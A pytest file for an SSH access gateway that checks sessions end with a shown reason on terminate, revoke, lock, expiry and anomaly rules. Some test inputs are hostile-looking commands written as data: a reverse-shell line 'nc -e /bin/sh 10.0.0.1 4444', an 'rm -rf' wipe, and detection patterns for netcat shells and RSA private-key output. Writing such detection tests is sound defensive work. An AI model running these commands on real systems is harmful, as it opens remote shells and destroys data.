"""Sessions end with their reason shown: terminate, revoke, lock, expiry, anomaly rules."""

from __future__ import annotations

import asyncio
from datetime import timedelta

from policy.service import SYSTEM_ACTOR
from tests.eventually import eventually
from tests.gateway.ssh.conftest import TARGET_USER, Gateway

LOGIN = f"alice+{TARGET_USER}@db01"


async def _long_session(gateway: Gateway) -> tuple[asyncio.subprocess.Process, str]:
    proc = await asyncio.create_subprocess_exec(
        *gateway.ssh_args("alice", LOGIN),
        "echo started; sleep 60",
        stdin=asyncio.subprocess.PIPE,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    assert proc.stdout is not None
    line = await asyncio.wait_for(proc.stdout.readline(), 30)
    assert line == b"started\n"
    (session_id,) = list(gateway.gw.registry.sessions)
    return proc, session_id


async def _ended(proc: asyncio.subprocess.Process) -> tuple[int, str]:
    _, err = await asyncio.wait_for(proc.communicate(), 30)
    return proc.returncode or 0, err.decode()


async def test_terminate_shows_reason_and_ends_both_legs(gateway: Gateway) -> None:
    await gateway.grant("alice")
    proc, sid = await _long_session(gateway)
    assert await gateway.gw.registry.terminate(sid, "terminated by admin: testing")
    code, err = await _ended(proc)
    assert code != 0
    assert "[lockgate] session terminated: terminated by admin: testing" in err
    assert len(gateway.gw.registry) == 0
    sessions = await _session_rows(gateway)
    assert sessions[sid]["end_reason"] == "terminated by admin: testing"


async def test_revoke_kills_live_session(gateway: Gateway) -> None:
    grant_id = await gateway.grant("alice")
    proc, _ = await _long_session(gateway)
    await gateway.policy.revoke(SYSTEM_ACTOR, grant_id, "incident over")
    await gateway.killswitch.recheck_all()
    code, err = await _ended(proc)
    assert code != 0
    assert "session terminated: grant revoked by lockgate: incident over" in err


async def test_lock_kills_live_session_and_blocks_new(gateway: Gateway) -> None:
    await gateway.grant("alice")
    proc, _ = await _long_session(gateway)
    await gateway.policy.lock(SYSTEM_ACTOR, "user", "alice", "suspicious activity")
    await gateway.killswitch.recheck_all()
    code, err = await _ended(proc)
    assert "session terminated: user alice is locked: suspicious activity" in err
    code, _, err2 = await gateway.ssh("alice", LOGIN, "true")
    assert code != 0 and b"user alice is locked" in err2
    await gateway.policy.unlock(SYSTEM_ACTOR, "user", "alice")
    code, _, _ = await gateway.ssh("alice", LOGIN, "true")
    assert code == 0


async def test_expiry_warns_then_kills(gateway: Gateway) -> None:
    await gateway.grant("alice", duration=timedelta(minutes=10))
    proc, _ = await _long_session(gateway)
    assert proc.stderr is not None
    await gateway.timer.advance(timedelta(minutes=5, seconds=1))
    warning = await asyncio.wait_for(proc.stderr.readline(), 30)
    while warning.strip() == b"":
        warning = await asyncio.wait_for(proc.stderr.readline(), 30)
    assert warning.strip() == b"[lockgate] access to db01 ends in 5 minutes"
    await gateway.timer.advance(timedelta(minutes=4))
    await gateway.timer.advance(timedelta(minutes=1))
    code, err = await _ended(proc)
    assert "[lockgate] access to db01 ends in 1 minute" in err
    assert "[lockgate] session terminated: grant expired" in err
    assert code != 0


async def test_extension_rearms_expiry(gateway: Gateway) -> None:
    grant_id = await gateway.grant("alice", duration=timedelta(minutes=10))
    proc, sid = await _long_session(gateway)
    ext = await gateway.policy.extend("alice", grant_id, timedelta(minutes=30), "more time")
    await gateway.policy.approve("bob", ext.id)
    await gateway.killswitch.recheck_all()
    await gateway.timer.advance(timedelta(minutes=11))
    assert sid in gateway.gw.registry.sessions
    await gateway.gw.registry.terminate(sid, "done")
    await _ended(proc)


async def test_exec_anomaly_kill_and_block(gateway: Gateway) -> None:
    await gateway.grant("alice")
    code, out, err = await gateway.ssh("alice", LOGIN, "rm -rf /tmp/nothing-here")
    assert code != 0 and out == b""
    assert b"[lockgate] session terminated: anomaly rule no-wipe" in err
    code, out, err = await gateway.ssh("alice", LOGIN, "echo shutdown now")
    assert code != 0 and b"refused by rule no-shutdown" in err and out == b""
    code, out, _ = await gateway.ssh("alice", LOGIN, "echo fine")
    assert code == 0 and out == b"fine\n"


async def _session_rows(gateway: Gateway) -> dict[str, dict[str, object]]:
    import sqlalchemy as sa

    from gateway.db.tables import sessions

    async with gateway.services.maker() as db:
        rows = (await db.execute(sa.select(sessions))).all()
    return {r.id: dict(r._mapping) for r in rows}


async def test_secret_typed_without_echo_is_nowhere_on_disk(gateway: Gateway) -> None:
    await gateway.grant("alice")
    secret = b"N0t-Echoed-S3cret-42"
    proc = await asyncio.create_subprocess_exec(
        *gateway.ssh_args("alice", LOGIN, "-tt"),
        stdin=asyncio.subprocess.PIPE,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    assert proc.stdin is not None and proc.stdout is not None
    # The prompt is assembled at run time so the echo of this line does not contain it.
    proc.stdin.write(b'P=Pass; read -s -p "${P}word: " PW; echo; echo got-${#PW}-chars\r')
    buffer = b""
    while b"Password: " not in buffer:
        buffer += await asyncio.wait_for(proc.stdout.read(1024), 30)
    proc.stdin.write(secret + b"\r")
    while b"got-20-chars" not in buffer:
        buffer += await asyncio.wait_for(proc.stdout.read(1024), 30)
    proc.stdin.write(b"exit\r")
    await asyncio.wait_for(proc.communicate(), 30)
    await eventually(lambda: not gateway.gw.registry.sessions, what="the session to close")
    files = [p for p in gateway.workdir.rglob("*") if p.is_file()]
    assert any(p.suffix == ".lgrec" for p in files)
    for path in files:
        assert secret not in path.read_bytes(), path


async def test_kill_and_lock_rule(gateway: Gateway) -> None:
    import re

    from recorder.anomaly import AnomalyEngine, AnomalyRule

    gateway.gw.anomaly = AnomalyEngine(
        [AnomalyRule("exfil", "command", re.compile(r"\bnc\s+-e\b"), "kill_and_lock")]
    )
    await gateway.grant("alice")
    code, _, err = await gateway.ssh("alice", LOGIN, "nc -e /bin/sh 10.0.0.1 4444")
    assert code != 0 and b"session terminated: anomaly rule exfil" in err
    code, _, err = await gateway.ssh("alice", LOGIN, "true")
    assert code != 0 and b"user alice is locked: anomaly rule exfil" in err


async def test_output_rule_kills_on_a_line_split_across_packets(gateway: Gateway) -> None:
    import re

    from recorder.anomaly import AnomalyEngine, AnomalyRule

    gateway.gw.anomaly = AnomalyEngine(
        [AnomalyRule("key-leak", "output", re.compile(r"BEGIN RSA PRIVATE"), "kill")]
    )
    await gateway.grant("alice")
    # The line arrives in two writes with a colour change in the middle of it.
    command = r"printf 'BEG'; sleep 0.5; printf 'IN \033[1mRSA\033[0m PRIVATE KEY\n'; sleep 60"
    code, _, err = await gateway.ssh("alice", LOGIN, command)
    assert code != 0 and b"session terminated: anomaly rule key-leak" in err
